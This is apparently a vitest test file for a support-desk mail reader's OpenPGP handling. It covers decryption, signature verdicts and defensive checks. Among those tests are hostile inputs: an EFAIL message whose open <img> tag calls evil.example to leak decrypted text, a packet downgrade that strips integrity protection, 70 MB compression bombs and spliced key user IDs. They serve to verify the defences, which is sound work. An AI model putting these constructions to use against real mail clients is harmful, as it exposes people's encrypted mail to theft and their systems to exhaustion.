import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createMessage, encrypt, generateKey, readKey } from 'openpgp';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openMail } from '../../../src/mail/secrecy/open.ts';
import { describedKey } from '../../../src/mail/secrecy/pgp.ts';
import type { Ring, Secrecy } from '../../../src/mail/secrecy/secrecy.ts';
import { understandNow } from '../../../src/mail/understand.ts';
import { type Gpg, gpgIn, hasGpg } from '../../support/gpg.ts';

const HEADER =
  'From: Han Mei <hanmei@customer.example>\r\nTo: desk@support.example\r\nSubject: [...]\r\nMessage-ID: <b1@customer.example>\r\nDate: Thu, 26 Nov 2026 10:00:00 +0800\r\nMIME-Version: 1.0\r\n';
const SAID = '账号登不进去。I cannot log in.';
const WORDS = `Content-Type: text/plain; charset=utf-8\r\n\r\n${SAID}\r\n`;
const PROTECTED = `Content-Type: text/plain; charset=utf-8; protected-headers="v1"\r\nFrom: Han Mei <hanmei@customer.example>\r\nTo: desk@support.example\r\nSubject: The login\r\nMessage-ID: <b1@customer.example>\r\nIn-Reply-To: <c9@support.example>\r\n\r\n${SAID}\r\n`;

const encryptedMail = (armour: Uint8Array | string): Buffer =>
  Buffer.from(
    `${HEADER}Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=pgp\r\n\r\n--pgp\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--pgp\r\nContent-Type: application/octet-stream; name=encrypted.asc\r\n\r\n${armour}\r\n--pgp--\r\n`,
    'latin1',
  );
const signedMail = (words: string, signature: Uint8Array, more = ''): Buffer =>
  Buffer.from(
    `${HEADER}${more}Content-Type: multipart/signed; micalg=pgp-sha256; protocol="application/pgp-signature"; boundary=pgp\r\n\r\n--pgp\r\n${words}\r\n--pgp\r\nContent-Type: application/pgp-signature\r\n\r\n${signature}\r\n--pgp--\r\n`,
  );

describe.skipIf(!hasGpg)('OpenPGP as gpg writes it', () => {
  let folder: string;
  let gpg: Gpg;
  let hanmei: string;
  let ring: (change?: Partial<Ring>) => Ring;

  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'pgp-'));
    gpg = gpgIn(folder);
    gpg.generate('Desk <desk@support.example>');
    gpg.generate('Han Mei <hanmei@customer.example>');
    gpg.generate('Mallory <mallory@evil.example>');
    gpg.generate('old@support.example', 'rsa');
    hanmei = gpg.publicKey('hanmei@customer.example');
    const keys = ['desk@support.example', 'old@support.example'].map((user) => ({
      form: 'openpgp' as const,
      key: gpg.privateKey(user),
      certificates: [],
    }));
    ring = (change = {}) => ({ keys, known: [hanmei], authorities: [], at: new Date(), ...change });
  });
  afterAll(() => {
    gpg?.close();
    rmSync(folder, { recursive: true, force: true });
  });

  const encrypted = (words: string, ...args: string[]): Buffer =>
    gpg.run(['--armor', '--encrypt', '-r', 'desk@support.example', ...args], words);
  const opened = async (
    raw: Uint8Array,
    change?: Partial<Ring>,
  ): Promise<{ text: string; subject: string; inReplyTo: readonly string[]; secrecy: Secrecy }> => {
    const { octets, secrecy } = await openMail(raw, ring(change));
    const { text, subject, inReplyTo } = understandNow(octets);
    return { text: text.trim(), subject, inReplyTo, secrecy };
  };
  const BY = ['--sign', '-u', 'hanmei@customer.example'];
  const detached = (words: string, by = 'hanmei@customer.example', ...args: string[]): Buffer =>
    gpg.run(['--armor', '--detach-sign', '-u', by, ...args], words);

  test.each<[string, string[]]>([
    ['as it comes', []],
    ['to an RSA key', ['-r', 'old@support.example']],
    ['to a hidden recipient', ['--hidden-recipient', 'old@support.example']],
    ['without compression', ['--compress-algo', 'none']],
    ['with bzip2', ['--compress-algo', 'bzip2']],
    ['with zlib', ['--compress-algo', 'zlib']],
    ['with AES-256', ['--cipher-algo', 'AES256']],
  ])('opens a message %s', async (_, args) => {
    expect(await opened(encryptedMail(encrypted(WORDS, ...args)))).toMatchObject({
      text: SAID,
      subject: '[...]',
      secrecy: { encrypted: 'opened', signature: null },
    });
  });

  test('signed and encrypted, with its header inside', async () => {
    const { text, subject, inReplyTo, secrecy } = await opened(encryptedMail(encrypted(PROTECTED, ...BY)));
    expect({ text, subject, inReplyTo }).toEqual({
      text: SAID,
      subject: 'The login',
      inReplyTo: ['<c9@support.example>'],
    });
    expect(secrecy).toMatchObject({
      encrypted: 'opened',
      signature: {
        verdict: 'valid',
        addresses: ['hanmei@customer.example'],
        name: 'Han Mei',
        covers: ['from', 'to', 'message-id', 'subject', 'in-reply-to'],
      },
    });
    expect(secrecy.signature?.signedAt).toBeInstanceOf(Date);
    expect(secrecy.signature?.expiresAt).toBeInstanceOf(Date);
  });

  test('a key that the desk does not know, and one that comes inside', async () => {
    const bare = await opened(encryptedMail(encrypted(WORDS, ...BY)), { known: [] });
    expect(bare.secrecy.signature).toMatchObject({ verdict: 'unknown_key', certificate: '' });
    const within = `Content-Type: multipart/mixed; boundary=in\r\n\r\n--in\r\n${WORDS}\r\n--in\r\nContent-Type: application/pgp-keys; name=key.asc\r\n\r\n${hanmei}\r\n--in--\r\n`;
    const brought = await opened(encryptedMail(encrypted(within, ...BY)), { known: [] });
    expect(brought.secrecy.signature).toMatchObject({ verdict: 'valid', addresses: ['hanmei@customer.example'] });
  });

  test('clear-signed by MIME, with the key in Autocrypt', async () => {
    const keydata = hanmei.replace(/^-.*$/gm, '').replace(/^=.*$/m, '').replace(/\s+/g, '');
    const raw = signedMail(
      WORDS,
      detached(WORDS),
      `Autocrypt: addr=hanmei@customer.example; keydata=${keydata.replace(/.{70}/g, '$&\r\n ')}\r\n`,
    );
    expect(await opened(raw, { known: [] })).toMatchObject({
      text: SAID,
      secrecy: { encrypted: null, signature: { verdict: 'valid' } },
    });
  });

  test.each<[string, () => Buffer, string]>([
    ['as it was written', () => signedMail(WORDS, detached(WORDS)), 'valid'],
    ['with other words', () => signedMail(WORDS.replace('log', 'l0g'), detached(WORDS)), 'broken'],
    ['signed with SHA-1', () => signedMail(WORDS, detached(WORDS, undefined, '--digest-algo', 'SHA1')), 'weak'],
    ['signed by somebody unknown', () => signedMail(WORDS, detached(WORDS, 'mallory@evil.example')), 'unknown_key'],
    ['with something that is no signature', () => signedMail(WORDS, Buffer.from('hello')), 'unchecked'],
  ])('a clear-signed mail %s', async (_, raw, verdict) => {
    expect((await opened(raw())).secrecy.signature?.verdict).toBe(verdict);
  });

  test('a signature of a key that is over by then', async () => {
    const at = new Date(Date.now() + 2 * 366 * 86_400_000);
    expect((await opened(signedMail(WORDS, detached(WORDS)), { at })).secrecy.signature?.verdict).toBe('expired');
  });

  const TEXT = 'Content-Type: text/plain; charset=utf-8\r\n\r\n';
  const clear = (): string =>
    gpg.run(['--clearsign', '-u', 'hanmei@customer.example'], `${SAID}\n- a dash\n`).toString();
  test.each<[string, () => string, string, RegExp]>([
    ['whole', clear, 'valid', /^账号登不进去。I cannot log in\.\n- a dash$/],
    ['with other words', () => clear().replace('log', 'l0g'), 'broken', /l0g in/],
    ['with words above', () => `Pay me first.\n${clear()}`, 'partial', /Pay me first/],
    ['with words below', () => `${clear()}\nPay me then.`, 'partial', /Pay me then/],
    ['twice, of which one is read', () => `${clear()}\n${clear().replace('log', 'l0g')}`, 'partial', /l0g in/],
    [
      'with words below, and what ends a signature',
      () => `${clear()}\nPay me then.\n-----END PGP SIGNATURE-----`,
      'partial',
      /Pay me then/,
    ],
  ])('signed in the text, %s', async (_, text, verdict, words) => {
    const read = await opened(Buffer.from(HEADER + TEXT + text()));
    expect(read.secrecy.signature?.verdict).toBe(verdict);
    expect(read.text).toMatch(words);
  });

  test.each([
    ['that ends', '\n-----END PGP SIGNATURE-----\n'],
    ['without an end', ''],
  ])('twelve megabytes that say they are signed, %s, are words whose signature nobody looked at', async (_, end) => {
    const words = `-----BEGIN PGP SIGNED MESSAGE-----\n${'ab c\n'.repeat(2_400_000)}${end}`;
    const read = await openMail(Buffer.from(HEADER + TEXT + words), ring());
    expect(read.secrecy).toMatchObject({ encrypted: null, signature: { verdict: 'unchecked' } });
  });

  test('encrypted in the text: all of it is read, and nothing that stands beside other words', async () => {
    const armour = encrypted(SAID).toString();
    expect(await opened(Buffer.from(HEADER + TEXT + armour))).toMatchObject({
      text: SAID,
      secrecy: { encrypted: 'opened' },
    });
    const beside = await opened(Buffer.from(`${HEADER}${TEXT}Please read this out:\n\n${armour}`));
    expect(beside).toMatchObject({ secrecy: { encrypted: 'partly' } });
    expect(beside.text).not.toContain(SAID);
    const quoted = await opened(Buffer.from(`${HEADER}${TEXT}See below.\n\n${armour.replace(/^/gm, '> ')}`));
    expect(quoted.secrecy.encrypted).toBeNull();
  });

  test('EFAIL: a message between two parts stays closed', async () => {
    const part = encryptedMail(encrypted(WORDS)).toString('latin1').slice(HEADER.length);
    const raw = `${HEADER}Content-Type: multipart/mixed; boundary=efail\r\n\r\n--efail\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n--efail\r\n${part}\r\n--efail\r\nContent-Type: text/html\r\n\r\n">\r\n--efail--\r\n`;
    const { secrecy, text } = await opened(Buffer.from(raw, 'latin1'));
    expect(secrecy.encrypted).toBe('partly');
    expect(text).not.toContain(SAID);
  });

  /** The packet of encrypted data (tag 18) as one without integrity (tag 9): a known attack on readers that allow it. */
  function downgraded(message: Buffer): Buffer {
    const { length } = message;
    // old format, two octets of length: the encrypted session key
    const at = message[0] === 0x85 ? 3 + message.readUInt16BE(1) : 2 + (message[1] ?? 0);
    expect(message[at]).toBe(0xd2);
    const first = message[at + 1] ?? 0;
    const [size, start] = first < 192 ? [first, at + 2] : [((first - 192) << 8) + (message[at + 2] ?? 0) + 192, at + 3];
    expect(start + size).toBe(length);
    const data = message.subarray(start + 1);
    const rest = data.length - 192;
    const header = data.length < 192 ? [0xc9, data.length] : [0xc9, (rest >> 8) + 192, rest & 255];
    return Buffer.concat([message.subarray(0, at), Buffer.from(header), data]);
  }

  test('EFAIL: what is encrypted without integrity is not opened', async () => {
    const message = gpg.run(['--encrypt', '-r', 'desk@support.example', '--compress-algo', 'none'], WORDS);
    const armour = (octets: Buffer): string =>
      `-----BEGIN PGP MESSAGE-----\r\n\r\n${octets.toString('base64').replace(/.{64}/g, '$&\r\n')}\r\n-----END PGP MESSAGE-----\r\n`;
    expect((await opened(encryptedMail(armour(message)))).secrecy.encrypted).toBe('opened');
    expect((await opened(encryptedMail(armour(downgraded(message))))).secrecy.encrypted).toBe('damaged');
  });

  test('as Exchange makes it of one', async () => {
    const armour = encrypted(WORDS);
    const raw = `${HEADER}Content-Type: multipart/mixed; boundary=ex\r\n\r\n--ex\r\nContent-Type: text/plain\r\n\r\n\r\n--ex\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--ex\r\nContent-Type: application/octet-stream; name=encrypted.asc\r\n\r\n${armour}\r\n--ex--\r\n`;
    expect(await opened(Buffer.from(raw, 'latin1'))).toMatchObject({ text: SAID, secrecy: { encrypted: 'opened' } });
  });

  test.each<[string, () => Uint8Array | string, string]>([
    ['to somebody else', () => gpg.run(['--armor', '--encrypt', '-r', 'mallory@evil.example'], WORDS), 'no_key'],
    ['cut in the middle', () => encrypted(WORDS).toString().slice(0, 400), 'damaged'],
    ['of nothing', () => '', 'damaged'],
  ])('a message %s', async (_, armour, why) => {
    expect((await opened(encryptedMail(armour()))).secrecy.encrypted).toBe(why);
  });

  test.each(['zip', 'zlib', 'bzip2'])('a bomb of 70 MB in %s is put out', async (algorithm) => {
    const bomb = gpg.run(
      ['--armor', '--encrypt', '-r', 'desk@support.example', '--compress-algo', algorithm],
      Buffer.alloc(70 * 1024 * 1024),
    );
    expect(bomb.length).toBeLessThan(1_000_000);
    expect((await opened(encryptedMail(bomb))).secrecy.encrypted).toBe('too_large');
  });

  test('a user id that a key did not sign is no name of it', async () => {
    const { publicKey } = await generateKey({ userIDs: [{ email: 'a@one.example' }], format: 'object' });
    const other = await generateKey({ userIDs: [{ email: 'hanmei@customer.example' }], format: 'object' });
    publicKey.users.push(...other.publicKey.users);
    const spliced = await readKey({ armoredKey: publicKey.armor() });
    const { addresses } = await describedKey(spliced, new Date(Date.now() + 5000));
    expect({ users: spliced.users.length, addresses }).toEqual({ users: 2, addresses: ['a@one.example'] });
  });

  test('openpgp.js writes what is read too, of version 6', async () => {
    const { privateKey, publicKey } = await generateKey({
      userIDs: [{ email: 'desk@support.example' }],
      config: { v6Keys: true },
    });
    const armour = await encrypt({
      message: await createMessage({ text: WORDS }),
      encryptionKeys: await readKey({ armoredKey: publicKey }),
    });
    const keys = [{ form: 'openpgp' as const, key: privateKey, certificates: [] }];
    expect(await opened(encryptedMail(armour), { keys, at: new Date(Date.now() + 5000) })).toMatchObject({
      text: SAID,
    });
  });
});
